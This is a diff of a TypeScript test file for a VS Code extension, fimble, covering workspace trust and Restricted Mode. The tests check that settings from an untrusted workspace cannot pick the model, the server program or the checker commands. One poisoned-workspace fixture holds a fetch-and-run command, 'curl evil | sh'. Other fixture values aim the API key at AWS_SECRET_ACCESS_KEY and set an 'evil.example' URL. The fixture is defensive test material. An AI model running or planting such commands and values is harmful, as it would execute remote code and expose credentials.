@@ -11,11 +11,18 @@ import {
   readServerSettings,
   resolveServerCommand,
 } from "../src/settings";
+import { MACHINE_KEYS, TrustContext } from "../src/trust";
 
-function cfg(values: Record<string, unknown>): ConfigLike {
+const RESTRICTED: TrustContext = { trusted: false, folders: ["/ws"], serverCwd: "/ext" };
+
+/** A configuration with user `values` and, merged over them by `get()` as VS Code does, `workspace` values. */
+function cfg(values: Record<string, unknown>, workspace: Record<string, unknown> = {}): ConfigLike {
   return {
     get<T>(key: string, defaultValue?: T): T {
-      return (key in values ? values[key] : defaultValue) as T;
+      return (key in workspace ? workspace[key] : key in values ? values[key] : defaultValue) as T;
+    },
+    inspect<T>(key: string) {
+      return { globalValue: values[key] as T | undefined, workspaceValue: workspace[key] as T | undefined };
     },
   } as ConfigLike;
 }
@@ -43,6 +50,8 @@ test("readServerSettings: defaults are the server's, keys as in PROTOCOL.md", ()
     fallbackModel: "",
     remoteModel: "",
     promptFormat: "auto",
+    maxDocumentBytes: 1000000,
+    workspaceTrusted: true,
   });
   assert.deepEqual(Object.keys(s).sort(), [
     "apiKeyEnv",
@@ -54,6 +63,7 @@ test("readServerSettings: defaults are the server's, keys as in PROTOCOL.md", ()
     "fixCheckers",
     "fixMaxAttempts",
     "fixTimeBudgetMs",
+    "maxDocumentBytes",
     "maxTokens",
     "model",
     "nCtx",
@@ -65,6 +75,7 @@ test("readServerSettings: defaults are the server's, keys as in PROTOCOL.md", ()
     "temperature",
     "timeBudgetMs",
     "url",
+    "workspaceTrusted",
   ]);
   assert.equal(DEFAULTS.maxTokens, 64);
 });
@@ -152,4 +163,109 @@ test("resolveServerCommand: serverPath, then pythonPath, then the Python extensi
 
 test("formatCommand quotes what needs quoting", () => {
   assert.equal(formatCommand({ command: "/a b/fimble", args: ["serve", "it's"], source: "serverPath" }), "'/a b/fimble' serve 'it'\\''s'");
+});
+
+test("readServerSettings: maxDocumentBytes is sent (0 = no limit; negative or junk: the default)", () => {
+  assert.equal(readServerSettings(cfg({ maxDocumentBytes: 250000 })).maxDocumentBytes, 250000);
+  assert.equal(readServerSettings(cfg({ maxDocumentBytes: 0 })).maxDocumentBytes, 0);
+  assert.equal(readServerSettings(cfg({ maxDocumentBytes: -5 })).maxDocumentBytes, 1000000);
+  assert.equal(readServerSettings(cfg({ maxDocumentBytes: "big" })).maxDocumentBytes, 1000000);
+});
+
+test("readServerSettings: a workspace value of a machine-scoped setting is never used; others still are", () => {
+  const user = { model: "/m/user.gguf", url: "http://gpu:8080", backend: "openai", fixCheckers: [["ruff", "check", "{file}"]] };
+  const workspace = {
+    model: "/ws/evil.gguf",
+    fallbackModel: "/ws/evil2.gguf",
+    url: "http://evil.example",
+    backend: "llama-server",
+    apiKeyEnv: "AWS_SECRET_ACCESS_KEY",
+    remoteModel: "evil/provider-model",
+    fixCheckers: [["sh", "-c", "curl evil | sh"]],
+    workspaceTrusted: true,
+    maxTokens: 17,
+  };
+  const s = readServerSettings(cfg(user, workspace));
+  assert.equal(s.model, "/m/user.gguf");
+  assert.equal(s.fallbackModel, "");
+  assert.equal(s.url, "http://gpu:8080");
+  assert.equal(s.backend, "openai");
+  assert.equal(s.apiKeyEnv, "FIMBLE_API_KEY");
+  assert.equal(s.remoteModel, "");
+  assert.deepEqual(s.fixCheckers, [["ruff", "check", "{file}"]]);
+  assert.equal(s.maxTokens, 17, "a window-scoped setting may come from the workspace");
+  const untrusted = readServerSettings(cfg(user, workspace), undefined, RESTRICTED);
+  assert.equal(untrusted.workspaceTrusted, false, "a settings file cannot claim trust");
+});
+
+test("readServerSettings in Restricted Mode: workspaceTrusted false, no checkers, no model from inside the workspace", () => {
+  const refused: string[] = [];
+  const s = readServerSettings(
+    cfg({ model: "${workspaceFolder}/models/m.gguf", fallbackModel: "/m/fallback.gguf", fixCheckers: [["ruff", "check", "{file}"]] }),
+    "/ws",
+    RESTRICTED,
+    (key, value, folder) => refused.push(`${key} ${value} ${folder}`),
+  );
+  assert.equal(s.workspaceTrusted, false);
+  assert.deepEqual(s.fixCheckers, []);
+  assert.equal(s.model, "");
+  assert.equal(s.fallbackModel, "/m/fallback.gguf");
+  assert.deepEqual(refused, ["model /ws/models/m.gguf /ws"]);
+  // A relative path is the server's (its working directory is the extension's folder), `..` included.
+  assert.equal(readServerSettings(cfg({ model: "../../ws/m.gguf" }), undefined, { ...RESTRICTED, serverCwd: "/x/ext" }).model, "");
+  // Trusted: the same settings go through.
+  const trusted = readServerSettings(cfg({ model: "${workspaceFolder}/m.gguf", fixCheckers: [["ruff"]] }), "/ws", { ...RESTRICTED, trusted: true });
+  assert.equal(trusted.model, "/ws/m.gguf");
+  assert.deepEqual(trusted.fixCheckers, [["ruff"]]);
+  assert.equal(trusted.workspaceTrusted, true);
+});
+
+test("every machine-scoped key is read from user settings only", () => {
+  for (const key of MACHINE_KEYS) {
+    const poisoned = cfg({}, { [key]: key === "fixCheckers" || key === "serverArgs" ? [["x"]] : "/ws/poison" });
+    const s = readServerSettings(poisoned) as unknown as Record<string, unknown>;
+    if (key in s) {
+      assert.notDeepEqual(s[key], poisoned.get(key), `fimble.${key} from the workspace is ignored`);
+    }
+  }
+});
+
+test("resolveServerCommand in Restricted Mode: nothing from inside the workspace", () => {
+  const which = (found: string[]) => () => found;
+  // serverPath inside the workspace: passed over for pythonPath, with the reason.
+  const a = resolveServerCommand({
+    serverPath: "${workspaceFolder}/.venv/bin/fimble",
+    pythonPath: "/usr/bin/python3",
+    workspaceFolder: "/ws",
+    trust: RESTRICTED,
+  });
+  assert.equal(a.command, "/usr/bin/python3");
+  assert.equal(a.source, "pythonPath");
+  assert.match(a.refused?.[0] ?? "", /fimble\.serverPath \(\/ws\/\.venv\/bin\/fimble\) lies inside the untrusted workspace folder \/ws/);
+  // The interpreter chosen in python.defaultInterpreterPath, inside the workspace: `fimble` on PATH instead,
+  // the first match outside the workspace (PATH may hold a workspace's .venv/bin first).
+  const b = resolveServerCommand({
+    defaultInterpreterPath: "/ws/.venv/bin/python",
+    trust: RESTRICTED,
+    which: which(["/ws/.venv/bin/fimble", "/home/u/.local/bin/fimble"]),
+  });
+  assert.deepEqual([b.command, b.source], ["/home/u/.local/bin/fimble", "PATH"]);
+  assert.equal(b.refused?.length, 1);
+  // A Python extension interpreter inside the workspace is refused too (the caller does not even ask for it).
+  assert.equal(
+    resolveServerCommand({ pythonExtensionInterpreter: "/ws/.venv/bin/python", trust: RESTRICTED, which: which([]) }).source,
+    "PATH",
+  );
+  // Nothing outside: a readable error, not a program from the workspace.
+  assert.throws(
+    () => resolveServerCommand({ serverPath: "/ws/fimble", trust: RESTRICTED, which: which(["/ws/bin/fimble"]) }),
+    /Restricted Mode: fimble starts no program from inside the workspace: fimble\.serverPath \(\/ws\/fimble\).*fimble on PATH.*Trust the workspace/,
+  );
+  // Trusted: unchanged, PATH lookup left to the system.
+  assert.deepEqual(resolveServerCommand({ serverPath: "/ws/fimble", trust: { ...RESTRICTED, trusted: true } }), {
+    command: "/ws/fimble",
+    args: ["serve"],
+    source: "serverPath",
+  });
+  assert.equal(resolveServerCommand({ trust: { ...RESTRICTED, trusted: true }, which: which(["/ws/fimble"]) }).command, "fimble");
 });
